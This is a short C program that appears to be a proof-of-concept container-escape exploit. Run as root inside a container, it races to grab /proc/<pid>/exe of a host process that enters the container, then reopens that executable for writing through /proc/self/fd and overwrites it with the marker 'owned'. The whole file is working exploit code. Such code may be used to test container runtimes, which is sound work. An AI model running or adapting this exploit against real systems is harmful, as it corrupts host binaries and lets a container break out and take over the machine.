/*
 * Runs in a container as its root. Opens the executable of the first process that comes and has the given word in its
 * path, for reading as everybody may, and writes it through that descriptor as soon as nobody executes it any more.
 * Linked statically.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define TRIES 3000

static char path[64];

/* The number that was given to a process last: the last field of loadavg. */
static int newest(void) {
  char text[128] = "";
  int fd = open("/proc/loadavg", O_RDONLY);
  ssize_t bytes = read(fd, text, sizeof text - 1);
  close(fd);
  return bytes > 0 ? atoi(strrchr(text, ' ') + 1) : 0;
}

/* Nobody but the victim: where this is called as root of the machine, other programs come by too. */
static int hold(const char *victim) {
  char target[256] = "";
  snprintf(path, sizeof path, "/proc/%d/exe", newest());
  int fd = open(path, O_RDONLY);
  if (fd == -1)
    return -1;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, victim) != NULL)
    return fd;
  close(fd);
  return -1;
}

static int overwrite(int fd) {
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int writable = open(path, O_WRONLY);
  return writable == -1 ? -1 : (int)write(writable, "owned", 5);
}

int main(int argc, char **argv) {
  int fd = -1;
  if (argc != 2)
    return 2;
  puts("ready");
  fflush(stdout);
  while (fd == -1)
    fd = hold(argv[1]);
  puts("held");
  fflush(stdout);
  int tries = TRIES;
  while (tries > 0 && overwrite(fd) == -1) {
    usleep(1000);
    tries--;
  }
  puts(tries > 0 ? "written" : strerror(errno));
  fflush(stdout);
  pause();
}
